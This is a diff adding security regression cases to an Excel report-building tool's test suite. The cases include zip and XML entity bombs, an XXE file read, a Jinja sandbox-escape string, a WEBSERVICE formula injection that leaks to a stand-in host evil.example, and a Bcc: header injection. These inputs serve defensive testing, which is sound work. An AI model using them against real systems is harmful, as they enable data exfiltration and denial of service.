@@ -32,9 +32,12 @@ class Case:
     args: list[str]
     inputs: list[Path]
     expect: list[str]  # fragments of the output (all of them)
-    exit_code: int = 1
+    exit_code: int = 1  # -1: 1 with a located message, or 0 with a safe build
     output: str = "out"  # the only folder the command may write into
     forbidden: list[str] = field(default_factory=list)  # fragments that must not appear
+    prepare: list[str] | None = None  # a command run first (a build before a send)
+    after_prepare: Callable[[], None] | None = None
+    verify: Callable[[Path], list[str]] | None = None  # what is wrong with a build that succeeded
 
 
 def base_workbook(path: Path, projects=None, indicators=None, extra: dict | None = None) -> Path:
@@ -237,3 +240,255 @@ def too_many_cells(path: Path, rows: int = 1_048_576, columns: int = 5) -> Path:
 
     parts[SHEET1] = Cells(sheet[:cut], b"", 0, sheet[cut:])
     return write_zip(path, parts)
+
+
+# --- the cases: each builds its files in ``folder`` and says what to run and what to expect ------
+
+ROOT = Path(__file__).resolve().parents[2]
+SAMPLE_CITIES = ROOT / "input" / "2020年度工业和信息化预留资金.xlsx"
+SAMPLE_SELF_EVALUATION = ROOT / "input" / "2023年江门市工业发展管理经费绩效自评.xlsx"
+TEMPLATE_CELL = ("绩效目标表.xlsx", "A2")  # the title: rendered once per file
+INPUT = "in.xlsx"
+
+
+def build_case(name: str, folder: Path, expect: list[str], exit_code: int = 1, **kwargs) -> Case:
+    return Case(name, folder, ["build", INPUT, "-o", "out", "-j", "1"], [folder / INPUT], expect, exit_code, **kwargs)
+
+
+def _far_cell(ref: str) -> Callable[[Path], Case]:
+    def make(folder: Path) -> Case:
+        row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
+        path = base_workbook(folder / INPUT)
+        rewrite(path, {SHEET1: lambda xml: add_cell(xml, f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>')})
+        return build_case(f"cell {ref}", folder, [f"项目!{ref}：", "超过上限 10,000,000 个单元格"])
+    return make
+
+
+def _whitespace(lie: bool) -> Callable[[Path], Case]:
+    def make(folder: Path) -> Case:
+        whitespace_bomb(folder / INPUT, 4, lie=lie)
+        expect = ["工作表「项目」", "连续文字或空白" if lie else "解压后为 4 GB，超过上限 512 MB"]
+        return build_case("whitespace bomb", folder, expect)
+    return make
+
+
+def _file_case(maker: Callable[[Path], Path], *expect: str) -> Callable[[Path], Case]:
+    def make(folder: Path) -> Case:
+        maker(folder / INPUT)
+        return build_case(maker.__name__, folder, list(expect))
+    return make
+
+
+def _xxe(folder: Path) -> Case:
+    secret = folder / "secret.txt"
+    secret.write_text("SECRET-7f3a9c", encoding="utf-8")
+    xxe(folder / INPUT, secret)
+    return build_case("xxe", folder, ["xl/sharedStrings.xml", "实体攻击"], forbidden=["SECRET-7f3a9c"])
+
+
+def edited_templates(folder: Path, text: str, template: str = TEMPLATE_CELL[0], cell: str = TEMPLATE_CELL[1]) -> Path:
+    import shutil
+
+    from openpyxl import load_workbook
+
+    target = folder / "tpl"
+    shutil.copytree(ROOT / "templates", target)
+    book = load_workbook(target / template)
+    book.active[cell] = text
+    book.save(target / template)
+    return target
+
+
+def _template(text: str, *expect: str) -> Callable[[Path], Case]:
+    def make(folder: Path) -> Case:
+        base_workbook(folder / INPUT)
+        edited_templates(folder, text)
+        case = build_case(f"template {text}", folder, [f"{TEMPLATE_CELL[0]}!", f"!{TEMPLATE_CELL[1]}", *expect])
+        case.args += ["--templates", "tpl"]
+        return case
+    return make
+
+
+def _nan(folder: Path) -> Case:
+    path = base_workbook(folder / INPUT)
+    rewrite(path, {SHEET1: lambda xml: set_cell_value(xml, "B2", "NaN")})
+    return build_case("NaN amount", folder, ["项目!B2：", "「NaN」"])
+
+
+def _overflow(folder: Path) -> Case:
+    base_workbook(folder / INPUT, projects=[["甲项目", 1e308, "目标甲"], ["乙项目", 1e308, "目标乙"]],
+                  indicators=[["甲项目", "产出指标", "数量指标", "培训次数", "≥2次"],
+                              ["乙项目", "产出指标", "数量指标", "培训次数", "≥2次"]])
+    return build_case("1e308 twice", folder, ["项目!B"], forbidden=["RuntimeWarning", "绩效目标表.xlsx!"])
+
+
+# --- cases whose fix lies outside the workbook readers ----------------------------------------------
+
+def _copy_sample(folder: Path, sample: Path, change: Callable | None = None) -> Path:
+    from openpyxl import load_workbook
+
+    book = load_workbook(sample)
+    if change is not None:
+        change(book)
+    path = folder / INPUT
+    book.save(path)
+    return path
+
+
+def _formula_injection(folder: Path) -> Case:
+    def change(book) -> None:
+        book["自评信息"].append(["等级划分", '优"&WEBSERVICE("http://evil.example/?leak")&"≥90；差'])
+
+    _copy_sample(folder, SAMPLE_SELF_EVALUATION, change)
+    # a located refusal of the grade text, or a build whose formulas hold it only as a quoted string
+    return build_case("formula injection", folder, [], exit_code=-1,
+                      verify=lambda out: formulas_calling(out, "WEBSERVICE"))
+
+
+def formulas_calling(folder: Path, function: str) -> list[str]:
+    """Formulas of the workbooks under ``folder`` that call ``function`` outside a string literal."""
+    import html
+    import re
+
+    found = []
+    for path in sorted(folder.rglob("*.xlsx")):
+        for name, data in parts_of(path).items():
+            if not name.startswith("xl/worksheets/"):
+                continue
+            for formula in re.findall(rb"<f[^>]*>([^<]*)</f>", data):
+                code = re.sub(r'"(?:[^"]|"")*"', '""', html.unescape(formula.decode()))
+                if function.upper() in code.upper():
+                    found.append(f"{path.name}: ={html.unescape(formula.decode())}")
+    return found
+
+
+def _dotdot_stem(folder: Path) -> Case:
+    base_workbook(folder / "...xlsx")
+    (folder / "地市").mkdir()
+    (folder / "地市" / "keep.xlsx").write_bytes(b"a file of the user's")
+    return Case("...xlsx", folder, ["build", "./...xlsx", "-o", "out", "-j", "1"], [folder / "...xlsx"], [], -1)
+
+
+def _cities(names: list[str], label: str) -> Callable[[Path], Case]:
+    def make(folder: Path) -> Case:
+        def change(book) -> None:
+            sheet = book["资金分配"]
+            for offset, name in enumerate(names):
+                sheet.cell(4 + offset, 1).value = name
+
+        _copy_sample(folder, SAMPLE_CITIES, change)
+        return build_case(label, folder, ["资金分配!A4", "资金分配!A5"] if len(names) > 1 else [], exit_code=-1)
+    return make
+
+
+def _crashing_worker(folder: Path) -> Case:
+    base_workbook(folder / "崩溃.xlsx")
+    base_workbook(folder / "正常.xlsx")
+    fault = folder / "fault"
+    fault.mkdir()
+    # fault injection: reading 崩溃.xlsx kills the worker with a signal, as a crash in a native library would
+    (fault / "sitecustomize.py").write_text(
+        "import os, signal\n"
+        "import xlreports.validate as v\n"
+        "_read = v.read_input\n"
+        "def read_input(path, problems=None):\n"
+        "    if path.name == '崩溃.xlsx':\n"
+        "        os.kill(os.getpid(), signal.SIGKILL)\n"
+        "    return _read(path, problems)\n"
+        "v.read_input = read_input\n", encoding="utf-8")
+    return Case("crashing worker", folder, ["build", "崩溃.xlsx", "正常.xlsx", "-o", "out", "-j", "2"],
+                [folder / "崩溃.xlsx", folder / "正常.xlsx"], ["崩溃.xlsx", "正常.xlsx"], 1,
+                forbidden=["BrokenProcessPool"])
+
+
+def _terminal_escapes(folder: Path) -> Case:
+    """A project name with a screen-clearing escape sequence and a bell (written raw into the XML:
+    openpyxl refuses control characters), named again in an error message (it is there twice)."""
+    path = base_workbook(folder / INPUT, projects=[["甲PLACEHOLDER项目", 100, "目标甲"], ["甲PLACEHOLDER项目", 5, "目标乙"]],
+                         indicators=[["乙项目", "产出指标", "数量指标", "培训次数", "≥2次"]])
+    rewrite(path, {SHEET1: lambda xml: xml.replace(b"PLACEHOLDER", b"\x1b[2J\x1b[31m\x07")})
+    return build_case("ESC/BEL in a name", folder, [], exit_code=-1, forbidden=["\x1b", "\x07"])
+
+
+def _bcc(folder: Path) -> Case:
+    def change(book) -> None:
+        book["收件人"].cell(2, 3).value = "Bcc:evil@evil.example"
+
+    _copy_sample(folder, SAMPLE_CITIES, change)
+    return Case("Bcc: in an address", folder, ["send", "out/in", "--recipients", INPUT, "--dry-run"],
+                [folder / INPUT], ["收件人!C2"], 1, prepare=["build", INPUT, "-o", "out", "-j", "1"])
+
+
+def _symlinked_city_file(folder: Path) -> Case:
+    _copy_sample(folder, SAMPLE_CITIES)
+    victim = folder / "victim.xlsx"
+    victim.write_bytes(b"not to be touched")
+    return Case("symlinked 地市 file", folder, ["build", INPUT, "-o", "out", "-j", "1"], [folder / INPUT, victim],
+                [], -1, prepare=["build", INPUT, "-o", "out", "-j", "1"],
+                after_prepare=lambda: _replace_with_link(folder / "out" / "in" / "地市" / "广州.xlsx", victim))
+
+
+def _replace_with_link(path: Path, target: Path) -> None:
+    path.unlink()
+    path.symlink_to(target)
+
+
+def _city_text_patch(folder: Path, raw: bytes, label: str) -> Case:
+    """资金分配!A4 holding bytes openpyxl would refuse to write (a NUL)."""
+    path = _copy_sample(folder, SAMPLE_CITIES, lambda book: setattr(book["资金分配"].cell(4, 1), "value", "PLACEHOLDER"))
+    parts = parts_of(path)
+    part = next(name for name, data in parts.items() if name.startswith("xl/worksheets/") and b"PLACEHOLDER" in data)
+    rewrite(path, {part: parts[part].replace(b"PLACEHOLDER", raw)})
+    return build_case(label, folder, [], exit_code=-1)
+
+
+def _import_far_cell(folder: Path) -> Case:
+    case = _far_cell("XFD1048576")(folder)
+    return Case("import a far cell", folder, ["import", INPUT, "-o", "out/导入.xlsx"], case.inputs, case.expect)
+
+
+def _check_billion_laughs(folder: Path) -> Case:
+    billion_laughs(folder / INPUT)
+    return Case("check billion laughs", folder, ["check", INPUT], [folder / INPUT], ["xl/sharedStrings.xml", "实体攻击"])
+
+
+def _template_file_bomb(folder: Path) -> Case:
+    """A template (passed around like any workbook) whose sheet has a cell at XFD1048576."""
+    base_workbook(folder / INPUT)
+    templates = edited_templates(folder, "{{ info.标题 or '绩效目标表' }}")
+    rewrite(templates / TEMPLATE_CELL[0], {SHEET1: lambda xml: add_cell(
+        xml, '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')})
+    case = build_case("template with a far cell", folder, [f"模板 {TEMPLATE_CELL[0]}", "XFD1048576", "超过上限"])
+    case.args += ["--templates", "tpl"]
+    return case
+
+
+CASES: dict[str, Callable[[Path], Case]] = {
+    "cell-XFD1048576": _far_cell("XFD1048576"),
+    "cell-GZ1048576": _far_cell("GZ1048576"),
+    "whitespace-bomb-4GB": _whitespace(lie=False),
+    "whitespace-bomb-4GB-lying-size": _whitespace(lie=True),
+    "zip-bomb-ratio": _file_case(ratio_bomb, "xl/media/image1.bin", "压缩炸弹"),
+    "billion-laughs": _file_case(billion_laughs, "xl/sharedStrings.xml", "实体攻击"),
+    "xxe": _xxe,
+    "huge-shared-string": _file_case(huge_shared_string, "xl/sharedStrings.xml", "连续文字或空白"),
+    "too-many-cells": _file_case(too_many_cells, "项目", "5,242,876 个非空单元格", "超过上限 5,000,000"),
+    "import-cell-XFD1048576": _import_far_cell,
+    "check-billion-laughs": _check_billion_laughs,
+    "template-file-far-cell": _template_file_bomb,
+    "template-huge-integer": _template("{{ 10**(10**9) }}", "超过上限 100,000 位"),
+    "template-huge-string": _template("{{ 'a'*3*10**9 }}", "超过上限 1,000,000"),
+    "template-sandbox-escape": _template("{{ ''.__class__.__mro__[1].__subclasses__() }}", "模板不允许访问"),
+    "nan-amount": _nan,
+    "overflow-1e308-twice": _overflow,
+    "formula-injection-grades": _formula_injection,
+    "stem-dotdot": _dotdot_stem,
+    "cities-A_B-and-A/B": _cities(["A_B", "A/B"], "A_B and A/B"),
+    "crashing-worker-j2": _crashing_worker,
+    "city-120-characters": _cities(["广" * 120], "120-character city"),
+    "city-with-NUL": lambda folder: _city_text_patch(folder, "广州\x00市".encode(), "NUL in a city"),
+    "ESC-BEL-in-names": _terminal_escapes,
+    "Bcc-in-address": _bcc,
+    "symlinked-city-file": _symlinked_city_file,
+    "CON-and-NUL.txt": _cities(["CON", "NUL.txt"], "Windows-reserved names"),
+}
